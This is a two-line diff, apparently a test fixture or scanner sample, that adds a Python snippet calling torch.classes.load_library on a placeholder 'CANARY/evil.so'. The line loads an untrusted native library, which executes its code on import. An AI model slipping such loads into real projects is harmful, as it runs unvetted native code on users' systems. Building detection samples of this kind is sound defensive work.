@@ -1,0 +1,2 @@
+import torch
+torch.classes.load_library("CANARY/evil.so")
